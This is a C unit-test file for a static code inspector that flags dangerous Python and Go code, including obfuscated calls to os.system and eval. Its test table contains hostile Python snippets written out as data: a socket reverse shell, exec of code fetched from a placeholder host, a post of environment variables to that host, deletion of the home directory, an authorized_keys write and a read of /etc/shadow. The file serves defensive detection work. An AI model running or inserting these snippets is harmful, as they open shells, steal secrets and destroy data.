/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Code as rows: every rule finds its own example and leaves the other alone, names that hide are seen
 * through, constants are folded, and what is too large is never silence.
 */
#include "inspect/code.h"

#include "base/clock.h"
#include "base/limits.h"
#include "base/mem.h"
#include "inspect/code/rule.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "inspect/code/verify.h"

#include <cmocka.h>

static const struct thresholds defaults = {0.3, 0.7};

static enum verdict_kind judge(enum code_language language, const char *text, size_t len,
			       struct findings *ret)
{
	struct inspect_context c = {0};
	struct cordon_error err = {0};
	struct verdict v;
	int r = code_inspect(&c, language, text, len, ret, &err);

	if (r < 0)
		print_message("error: %s\n", err.message);
	assert_int_equal(r, 0);
	verdict_of(ret, &defaults, NULL, &v);
	return v.kind;
}

/* Does the verifier, which also lists notes, name this rule's reason? */
static bool verifier_finds(const struct code_rule *rule, const char *text)
{
	const char *language = rule->language == CODE_FOR_GO ? "go" : "python";
	struct code_verifier v = {0};
	struct code_result result = {0};
	struct inspect_context c = {0};
	bool found = false;

	assert_int_equal(code_verifier_init(&v, NULL), 0);
	assert_int_equal(code_verify(&v, &c, language, text, strlen(text), &result, NULL), 0);
	for (size_t i = 0; i < result.n; i++)
		found = found || (strstr(result.violations[i].reason, rule->reason) &&
				  result.violations[i].is_error == rule->is_error);
	code_result_done(&result);
	code_verifier_done(&v);
	return found;
}

static bool has_rule(const struct findings *f, const char *id)
{
	for (size_t i = 0; i < f->n; i++)
		if (strcmp(f->items[i].rule, id) == 0)
			return true;
	return false;
}

static void test_rows(void **state)
{
	unsigned failed = 0;

	(void)state;
	for (size_t i = 0; i < CODE_RULE_COUNT; i++) {
		const struct code_rule *rule = &code_rules[i];
		enum code_language language = rule->language == CODE_FOR_GO ? CODE_GO : CODE_PYTHON;
		AUTO(findings_done) struct findings hit = {0}, miss = {0};
		bool is_found, is_missed;

		assert_non_null(rule->id);
		assert_true(rule->reason && rule->reason[0] && rule->miss && rule->miss[0]);
		for (size_t k = 0; k < i; k++)
			assert_string_not_equal(rule->id, code_rules[k].id);
		if (i == CODE_RULE_CODE_LIMIT)
			continue; /* its example does not fit in a row: test_limits() */
		(void)judge(language, rule->hit, strlen(rule->hit), &hit);
		(void)judge(language, rule->miss, strlen(rule->miss), &miss);
		is_found = rule->weight == CODE_NOTE ? verifier_finds(rule, rule->hit) :
						       has_rule(&hit, rule->id);
		is_missed = rule->weight == CODE_NOTE ? !verifier_finds(rule, rule->miss) :
							!has_rule(&miss, rule->id);
		if (!is_found || !is_missed) {
			print_message("%s: %s\n", rule->id,
				      is_found ? "its other example is found, too" :
						 "its example is not found");
			failed++;
		}
	}
	assert_int_equal(failed, 0);
}

/* {code, the least verdict} */
static const struct {
	const char *text;
	enum verdict_kind want;
} hidden_rows[] = {
	{"import os as o\no.system(x)", VERDICT_SUSPICIOUS},
	{"from os import system as s\ns(x)", VERDICT_SUSPICIOUS},
	{"from os import *\nsystem(x)", VERDICT_SUSPICIOUS},
	{"__import__('os').system(x)", VERDICT_MALICIOUS},
	{"__import__('o' + 's').system(x)", VERDICT_MALICIOUS},
	{"m = __import__('os')\nm.system('whoami')", VERDICT_SUSPICIOUS},
	{"import importlib\nimportlib.import_module('subprocess').call(x, shell=True)", VERDICT_MALICIOUS},
	{"import os\ngetattr(os, 'sys' + 'tem')(x)", VERDICT_MALICIOUS},
	{"import os\ngetattr(os, 'metsys'[::-1])(x)", VERDICT_MALICIOUS},
	{"import os\ngetattr(os, ''.join(['sys', 'tem']))(x)", VERDICT_MALICIOUS},
	{"import os\ngetattr(os, 'sys{}'.format('tem'))(x)", VERDICT_MALICIOUS},
	{"import os\ngetattr(os, 'sys%s' % 'tem')(x)", VERDICT_MALICIOUS},
	{"import os\na = 'sys'\ngetattr(os, f'{a}tem')(x)", VERDICT_MALICIOUS},
	{"import os\ngetattr(os, bytes.fromhex('73797374656d').decode())(x)", VERDICT_MALICIOUS},
	{"import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())(x)", VERDICT_MALICIOUS},
	{"import os\ngetattr(os, chr(115)+chr(121)+chr(115)+chr(116)+chr(101)+chr(109))(x)",
	 VERDICT_MALICIOUS},
	{"import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))(x)", VERDICT_MALICIOUS},
	{"import os\ngetattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))(x)",
	 VERDICT_MALICIOUS},
	{"import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))(x)", VERDICT_MALICIOUS},
	{"import os\nos.__dict__['system'](x)", VERDICT_MALICIOUS},
	{"import os\nvars(os)['system'](x)", VERDICT_MALICIOUS},
	{"import os\nos.__getattribute__('system')(x)", VERDICT_MALICIOUS},
	{"import sys\nsys.modules['os'].system(x)", VERDICT_MALICIOUS},
	{"globals()['__builtins__'].eval(x)", VERDICT_SUSPICIOUS},
	{"__builtins__.__dict__['eval'](x)", VERDICT_MALICIOUS},
	{"import builtins\nbuiltins.exec(x)", VERDICT_SUSPICIOUS},
	{"e = eval\ne(x)", VERDICT_SUSPICIOUS},
	{"import os\nrun = os.system\nrun(x)", VERDICT_SUSPICIOUS},
	{"exec(\"import os\\nos.system(x)\")", VERDICT_SUSPICIOUS},
	{"exec(\"exec('import socket,os,pty;s=socket.socket();s.connect((h,1));os.dup2(s.fileno(),0);"
	 "pty.spawn(\\\"sh\\\")')\")",
	 VERDICT_MALICIOUS},
	{"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))", VERDICT_MALICIOUS},
	{"import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'eJw=')))", VERDICT_MALICIOUS},
	{"import urllib.request as r\nexec(r.urlopen('http://x.example/a').read())", VERDICT_MALICIOUS},
	{"import requests\ndef get():\n    return requests.get(u).text\nexec(get())", VERDICT_MALICIOUS},
	{"def run(c):\n    import subprocess\n    subprocess.run(c, shell=True)\nimport socket\n"
	 "s = socket.socket()\nrun(s.recv(10))",
	 VERDICT_MALICIOUS},
	{"import os, requests\nrequests.post('https://x.example', data=str(os.environ))", VERDICT_MALICIOUS},
	{"import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", VERDICT_MALICIOUS},
	{"from pathlib import Path\nimport shutil\nshutil.rmtree(Path.home())", VERDICT_MALICIOUS},
	{"from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text(k)",
	 VERDICT_MALICIOUS},
	{"import os\nopen(os.path.join('/usr', '../etc/shadow')).read()", VERDICT_SUSPICIOUS},
};

static void test_hidden(void **state)
{
	unsigned failed = 0;

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(hidden_rows); i++) {
		AUTO(findings_done) struct findings f = {0};
		enum verdict_kind got = judge(CODE_PYTHON, hidden_rows[i].text,
					      strlen(hidden_rows[i].text), &f);

		if (got >= hidden_rows[i].want)
			continue;
		print_message("%s instead of %s: %s\n", verdict_name(got),
			      verdict_name(hidden_rows[i].want), hidden_rows[i].text);
		failed++;
	}
	assert_int_equal(failed, 0);
}

static const struct {
	enum code_language language;
	const char *text;
} plain_rows[] = {
	{CODE_PYTHON, "import json\nprint(json.dumps({'a': 1}))"},
	{CODE_PYTHON, "import re\nx = re.compile('a').sub('b', y)\n"},
	{CODE_PYTHON, "import hashlib\nprint(hashlib.md5(x).hexdigest())"},
	{CODE_PYTHON, "import requests, os\nr = requests.get('https://api.example/x', "
		      "headers={'Authorization': os.environ['TOKEN']})\nprint(r.json())"},
	{CODE_PYTHON, "with open('/tmp/out.txt', 'w') as f:\n    f.write('x')\n"},
	{CODE_PYTHON, "import os\nfor f in os.listdir('.'):\n    print(f)\n"},
	{CODE_PYTHON, "import base64\nprint(base64.b64decode('aGVsbG8='))"},
	{CODE_PYTHON, "model.eval()\ncur.exec(x)\nself.system(y)\n"},
	{CODE_PYTHON, "def system(x):\n    return x\nsystem('rm -rf /')\n"},
	{CODE_GO, "package main\nimport \"fmt\"\nfunc main() { fmt.Println(\"hi\") }"},
	{CODE_GO, "package main\nimport \"os\"\nfunc main() { os.ReadFile(\"go.mod\") }"},
	{CODE_GO, "package main\ntype exec struct{}\nfunc (e exec) Command(s string) {}\n"},
};

static void test_plain(void **state)
{
	unsigned failed = 0;

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(plain_rows); i++) {
		AUTO(findings_done) struct findings f = {0};
		enum verdict_kind got = judge(plain_rows[i].language, plain_rows[i].text,
					      strlen(plain_rows[i].text), &f);

		if (got == VERDICT_SAFE)
			continue;
		print_message("%s (%s): %s\n", verdict_name(got), f.items[0].rule, plain_rows[i].text);
		failed++;
	}
	assert_int_equal(failed, 0);
}

static void fill(char *p, size_t len, const char *unit)
{
	size_t n = strlen(unit);

	for (size_t i = 0; i < len; i++)
		p[i] = unit[i % n];
}

static void test_limits(void **state)
{
	static const char *const units[] = {"(", "[", "{", "x(", "\"a\"+", "a.", "f'{", "lambda:", "\\",
					    "if x:\n ", "\xff\x00\xfe", "getattr(a,'b')+", "x=x+x\n",
					    "def f(", "exec('", "`", "\xe2\x80\x8b", "/*", "a=b="};
	size_t len = (size_t)64 * 1024;
	AUTO_FREE char *text = malloc((size_t)LIMIT_CODE_BYTES + 1);

	(void)state;
	assert_non_null(text);
	for (size_t i = 0; i < ARRAY_LEN(units); i++) {
		for (int language = CODE_PYTHON; language <= CODE_GO; language++) {
			AUTO(findings_done) struct findings f = {0};
			int64_t start = clock_ms();

			fill(text, len, units[i]);
			(void)judge((enum code_language)language, text, len, &f);
			/* Twice the limits: one to parse, one to walk, and what is between. */
			assert_true(clock_ms() - start < 4 * LIMIT_CODE_MS + 5000);
			if (f.n == 0)
				print_message("nothing in %s\n", units[i]);
		}
	}
	{
		AUTO(findings_done) struct findings f = {0};

		memset(text, ' ', (size_t)LIMIT_CODE_BYTES + 1);
		assert_int_equal(judge(CODE_PYTHON, text, (size_t)LIMIT_CODE_BYTES + 1, &f),
				 VERDICT_SUSPICIOUS);
		assert_true(has_rule(&f, "CODE-LIMIT"));
	}
}

static void test_lines(void **state)
{
	static const char text[] = "\n\nimport os\n\nos.system(x)\n";
	AUTO(findings_done) struct findings f = {0};

	(void)state;
	(void)judge(CODE_PYTHON, text, strlen(text), &f);
	assert_true(f.n > 0);
	assert_int_equal(f.items[0].line, 5);
	assert_int_equal(f.items[0].column, 1);
	assert_string_equal(f.items[0].rule, "PY-SHELL");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rows),  cmocka_unit_test(test_hidden), cmocka_unit_test(test_plain),
		cmocka_unit_test(test_lines), cmocka_unit_test(test_limits),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
